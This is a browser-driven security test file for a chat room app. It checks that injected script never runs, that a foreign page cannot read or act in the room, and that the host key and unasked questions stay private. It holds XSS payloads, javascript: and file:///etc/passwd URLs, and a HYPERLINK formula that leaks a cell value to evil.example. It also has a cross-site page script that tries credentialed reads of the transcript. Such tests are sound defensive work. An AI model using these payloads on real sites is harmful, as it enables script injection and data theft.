"""Attacks on the room, with real browsers watching: nothing that people write runs, and nothing gets out or in."""

import asyncio
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

from PIL import Image
from playwright.async_api import FilePayload, Page, Response, WebSocket

from tests.browsers import Guest, chromium, expect, held, light_on_paper, picture
from tests.browsers.held import ROOT, command
from tests.hostile import TOWER

SAMPLE = ROOT / "questions" / "five-minutes.yaml"

#: Names that try something, and how each is shown.
NAMES = {
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>': '"><script>alert(1)</script>',
    "\u202e\u2066../etc/Z" + "\u0337" * 40 + "o\u202c": "../etc/Z" + "\u0337" * 3 + "o",
}
TEXTS = [
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1; alert(1)'><iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    '"><svg onload=alert(1)><style>* { display: none }</style></p></article></main>',
    "javascript:alert(1) data:text/html,<script>alert(1)</script> file:///etc/passwd",
    'https://good.example@evil.example/ and https://evil.example/"onmouseover=alert(1)// and //evil.example/x.js',
    "[x](javascript:alert(1)) <a href=javascript:alert(1)>here</a> &lt;b&gt; &#60;script&#62; <form action=//evil.example>",
    "A1 \u202egnp.exe\u2066 abc \u2067def\u200f\u200b\ufeff end",
    "A1 Z" + "\u0335\u0489\u036f\u1ab0" * 490,
    "A1 " + "W" * 1900,
    "${7*7} {{7*7}} {% raw %} %s%n __proto__ constructor toString",
    '=HYPERLINK("https://evil.example?"&A1, "x")',
    "A1 \U0001f469\u200d\U0001f469\u200d\U0001f467 \ud7ff \uffff \U0010ffff",
]


async def test_nothing_that_people_write_runs(tmp_path: Path) -> None:
    """Hostile names, texts, descriptions and proposals are shown as they were written, wherever the page shows them."""
    async with held(SAMPLE, tmp_path / "chat.db") as room, chromium() as browser:
        hana = await Guest.come(browser, room.host_link, "Hana")
        guests = [await Guest.come(browser, room.link, name) for name in NAMES]
        everybody = [hana, *guests]
        await hana.press("Start")
        await hana.press("Next question")
        for n, text in enumerate(TEXTS):
            guest = guests[n % len(guests)]
            await guest.on_floor("Q1")
            await guest.write(text)
            await expect(guest.page.locator("#entries > article.message")).to_have_count(n + 1)
        await too_long(guests[0])
        await a_picture(guests[1])
        for guest in guests:
            await propose(guest, TEXTS[2])
        for guest in everybody:
            await expect(guest.page.locator("#entries > article.message")).to_have_count(len(TEXTS) + 1)
            assert (await guest.texts())[:-1] == TEXTS
            names = await guest.page.locator("#entries > article.message .name").all_text_contents()
            assert names == [*(list(NAMES.values()) * 4), NAMES[guests[1].name]]
        for guest in everybody[:2]:
            await look_at_everything(guest)
        await host_panels(hana)
        await hana.press("End chat")
        await hana.dialog.get_by_role("button", name="End the chat").click()
        for guest in everybody:
            await recap(guest)
            assert await guest.page.evaluate("window.ran") is None
        await files(hana, room.db, tmp_path)
        trouble = [line for guest in everybody for line in guest.trouble]
        assert [line for line in trouble if "status of 422" not in line] == []  # what is not a picture


async def test_marks_stay_where_they_are(tmp_path: Path) -> None:
    """A message of stacked marks covers nothing above it, also while it is in hand and its tools hang over its edge; and paper is light."""
    async with held(SAMPLE, tmp_path / "chat.db") as room, chromium() as browser:
        bo = await Guest.come(browser, room.link, "Bo")
        for text in ("WWWWWWWW", "between", "too", TOWER[:1900]):
            await bo.say(text)
        above = bo.entry("WWWWWWWW").locator(".text")
        before = await picture(above)
        await bo.entry(TOWER[:1900]).hover()
        await expect(bo.entry(TOWER[:1900]).get_by_role("toolbar")).to_be_visible()
        assert await picture(above) == before
        assert await light_on_paper(bo.page)


async def too_long(guest: Guest) -> None:
    """Write a tower of marks: it is too long, is not sent, and the page says so."""
    await guest.write("A1 Z" + "\u0489" * 4000)
    await expect(guest.page.locator("#compose-count")).to_have_text("2004 too many")
    await expect(guest.page.locator("#pending")).to_be_empty()
    await guest.field.fill("")


async def a_picture(guest: Guest) -> None:
    """Share a picture that is none, which is refused, and one whose description does not get out of its attribute."""
    page = guest.page
    field = page.locator("#picture-file")
    await field.set_input_files(FilePayload(name="x.png", mimeType="image/png", buffer=TEXTS[0].encode()))
    await expect(page.locator("#picture-state")).to_contain_text("not a picture")
    await field.set_input_files(FilePayload(name=TEXTS[1], mimeType="image/png", buffer=dot()))
    description = 'x" onerror="alert(1)" y="'
    await page.get_by_label("What does the picture show?").fill(description)
    await expect(page.locator("#picture-state")).to_be_empty()
    await guest.write("A1")
    await expect(page.get_by_role("img", name=description)).to_have_js_property("complete", value=True)


def dot() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2), "teal").save(out, "PNG")
    return out.getvalue()


async def propose(guest: Guest, text: str) -> None:
    await guest.page.get_by_role("button", name="Propose a question").click()
    await guest.dialog.get_by_label("Your question to the group").fill(text)
    await guest.dialog.get_by_role("button", name="Send to the hosts").click()
    await expect(guest.dialog).to_be_hidden()


async def look_at_everything(guest: Guest) -> None:
    """Go over all messages, open what opens, and see that nothing leads astray or breaks out of its place."""
    for entry in await guest.stream.all():
        await entry.hover()
        await expect(entry.get_by_role("toolbar")).to_be_attached()
    links = await guest.page.eval_on_selector_all(
        "#chat a[href]:not(.quoted)", "links => links.map(({ href, rel }) => [new URL(href).host, rel])"
    )
    own, rel = guest.link.split("/")[2], "noopener noreferrer nofollow"
    assert {(host, how) for host, how in links if host != own} == {("evil.example", rel)}
    await guest.page.get_by_role("tab", name="My answers").click()
    mine = await guest.page.locator("#panel-mine .text").all_text_contents()
    assert len(mine) == (
        0 if guest.name == "Hana" else await guest.page.locator("article.own.answer").count()
    )
    sizes = await guest.page.evaluate(
        "() => ['html', '#stream', '#panel', '#floor'].map((each) => document.querySelector(each))"
        ".map((each) => each.scrollWidth - each.clientWidth)"
    )
    assert max(sizes) <= 0


async def host_panels(hana: Guest) -> None:
    await hana.page.get_by_role("tab", name="3 proposed questions").click()
    assert await hana.page.locator("#panel-proposals bdi").all_text_contents() == list(NAMES.values())
    assert set(await hana.page.locator("#panel-proposals .text").all_text_contents()) == {TEXTS[2]}
    await hana.page.get_by_role("button", name="Take into the chat").first.click()
    await expect(hana.page.locator("#host-next")).to_contain_text(TEXTS[2])
    await hana.page.get_by_role("button", name="People", exact=True).click()
    people = hana.dialog.locator(".people-list bdi")
    await expect(people).to_have_count(4)
    assert sorted(await people.all_text_contents()) == sorted(["Hana", *NAMES.values()])
    await hana.dialog.get_by_role("button", name="Close").click()
    first = hana.page.locator("#entries > article.message").first
    await first.hover()
    await first.get_by_role("button", name="More").click()
    await expect(hana.page.get_by_role("menuitem").filter(has_text="<img src=x")).to_have_count(2)
    await hana.page.get_by_role("menuitem", name="Highlight").click()
    await expect(hana.page.locator("article.highlighted")).to_have_count(1)
    await hana.press("Next question")
    await expect(hana.page.locator("#floor-ask")).to_have_text(TEXTS[2])


async def recap(guest: Guest) -> None:
    await expect(guest.page.locator("#recap-heading")).to_be_visible()
    best = await guest.page.locator("#recap blockquote").first.locator(".text").text_content()
    assert best == TEXTS[0]
    thanks = await guest.page.locator("#recap .thanks bdi").all_text_contents()
    assert set(NAMES.values()) <= set(thanks)


async def files(hana: Guest, db: Path, folder: Path) -> None:
    """Open recap and transcript as web pages, which run nothing either."""
    for what in ("recap", "transcript"):
        file = folder / f"{what}.html"
        await asyncio.to_thread(file.write_bytes, await command(db, what, "last", "--format", "html"))
        await hana.page.goto(file.as_uri())
        await expect(hana.page.get_by_text(TEXTS[0]).first).to_be_visible()
        assert await hana.page.evaluate("window.ran") is None


FOREIGN = """<!doctype html><meta charset="utf-8"><title>A prize for you</title><script type="module">
const room = "ROOM";
const did = {};
const attempt = async (name, run) => { try { did[name] = await run(); } catch (error) { did[name] = "refused"; } };
window.did = (async () => {
  await attempt("me", async () => (await fetch(room + "/me", { credentials: "include" })).text());
  await attempt("file", async () => (await fetch(room + "/files/transcript.json", { credentials: "include" })).text());
  const body = JSON.stringify({ name: "Mallory" });
  await attempt("join", async () => (await fetch(room + "/join", { method: "POST", credentials: "include", body })).text());
  await attempt("blind join", () => fetch(room + "/join", { method: "POST", mode: "no-cors", credentials: "include", body }));
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket(room.replace("http", "ws") + "/ws");
    socket.onopen = () => done("open");
    socket.onmessage = ({ data }) => done(data);
    socket.onclose = () => done("refused");
  }));
  await attempt("script", () => new Promise((done) => {
    const script = document.createElement("script");
    script.onload = () => done("loaded");
    script.onerror = () => done("refused");
    script.src = room + "/me";
    document.head.append(script);
  }));
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { done(frame.contentWindow.document.title); } catch { done("refused"); } };
    frame.src = room + "/";
    document.body.append(frame);
  }));
  return did;
})();
</script>"""


@asynccontextmanager
async def foreign_site(page: str) -> AsyncIterator[str]:
    """Serve somebody else's page on a port of this machine: to browsers, that is the same site with the same cookies."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + page.encode()
        )
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"


async def test_a_foreign_page_gets_nothing(tmp_path: Path) -> None:
    """Another page in a host's own browser, its cookies and all, can neither read the room nor do anything in it."""
    async with held(SAMPLE, tmp_path / "chat.db") as room, chromium() as browser:
        hana = await Guest.come(browser, room.host_link, "Hana")
        async with foreign_site(FOREIGN.replace("ROOM", room.link.rstrip("/"))) as foreign:
            page = await hana.context.new_page()
            await page.goto(foreign)
            did = await page.evaluate("window.did")
            framed = [frame.url for frame in page.frames if frame.url.startswith(room.link)]
        assert did == dict.fromkeys(
            ("me", "file", "join", "blind join", "socket", "script", "frame"), "refused"
        )
        assert framed == []
        await hana.say("Still me")
        assert await hana.page.locator("article.own .name").text_content() == "Hana"


async def test_the_hosts_key_leaves_the_address(tmp_path: Path) -> None:
    """After the one redirect the key is nowhere that others look: address, history, Referer, page, storage, output."""
    async with held(SAMPLE, tmp_path / "chat.db") as room, chromium() as browser:
        key = room.host_link.rpartition("/")[2]
        asked: list[dict[str, str]] = []
        hana = await Guest.arrive(browser, room.host_link, "Hana")
        page = hana.page
        page.on("request", lambda request: asked.append({"url": request.url, **request.headers}))
        await page.reload()
        await hana.join()
        await hana.say("Hello")
        assert page.url == room.link
        seen = await page.evaluate(
            "() => JSON.stringify([document.referrer, location.href, history.state, document.cookie, { ...localStorage }, "
            "{ ...sessionStorage }, document.documentElement.outerHTML, performance.getEntries()])"
        )
        cookies = await hana.context.cookies()
        assert [cookie["httpOnly"] for cookie in cookies] == [True]
        assert {header["url"] for header in asked}
        for text in (seen, json.dumps(asked), json.dumps(cookies)):
            assert key not in text
        assert sum(key in line for line in room.printed) == 1
        await page.go_back()
        assert page.url == "about:blank"
        await page.go_forward()
        await hana.is_in()
        assert page.url == room.link


SECRETS = """\
hashtag: Secrets
title: What is not yet known
hosts: [Hana]
intro: What do you know already?
questions:
  - Known from now on?
  - ask: Elderberry first?
    follow_up: Elderberry after half the time?
    image: elderberry.png
    alt: Elderberry in a picture
    translations: {de: Elderberry auf Deutsch}
    resources: [{title: Elderberry to read, url: https://elderberry.example}]
  - {ask: Elderberry at last?, label: Elderberry}
closing: Elderberry, and goodbye.
"""


async def test_questions_to_come_are_not_sent(tmp_path: Path) -> None:
    """No byte that a participant's browser receives has anything of a question that was not yet asked."""
    script = tmp_path / "secrets.yaml"
    script.write_text(SECRETS)
    (tmp_path / "elderberry.png").write_bytes(dot())
    async with held(script, tmp_path / "chat.db") as room, chromium() as browser:
        hana = await Guest.come(browser, room.host_link, "Hana")
        ana = await Guest.arrive(browser, room.link, "Ana")
        received = recording(ana.page)
        await ana.page.reload()
        await ana.join()
        await hana.press("Start")
        await hana.press("Next question")
        await ana.on_floor("Q1")
        await hana.more_time(3)
        await hana.press("Pause")
        await hana.press("Resume")
        await ana.say("A2 is what I would like to know")
        for address in (
            "/me",
            "/files/transcript.json",
            "/files/recap.json",
            "/script-pictures/2",
            "/static/",
        ):
            await ana.page.evaluate("(address) => fetch(address).then((answer) => answer.text())", address)
        await expect(hana.page.locator("#host-next")).to_contain_text("Elderberry first?")
        # What was received until now has nothing of it, and the same ears would have heard it.
        assert b"elderberry" not in (await received()).lower()
        await hana.press("Next question")
        await ana.on_floor("Q2")
        heard = await received()
        assert b"Elderberry first?" in heard
        assert b"Elderberry at last?" not in heard
        assert b"half the time" not in heard
        assert [line for line in ana.trouble if "Failed to load resource" not in line] == []


def recording(page: Page) -> Any:
    """Record everything that a page receives, bodies, headers and frames; give what gives it."""
    bodies: list[asyncio.Task[bytes]] = []
    frames: list[bytes] = []

    async def read(response: Response) -> bytes:
        headers = json.dumps(await response.all_headers()).encode()
        return headers + (b"" if 300 <= response.status < 400 else await response.body())

    def listen(socket: WebSocket) -> None:
        socket.on(
            "framereceived",
            lambda data: frames.append(data.encode() if isinstance(data, str) else data),
        )

    page.on("response", lambda response: bodies.append(asyncio.ensure_future(read(response))))
    page.on("websocket", listen)

    async def received() -> bytes:
        return b"\n".join([*await asyncio.gather(*bodies), *frames])

    return received
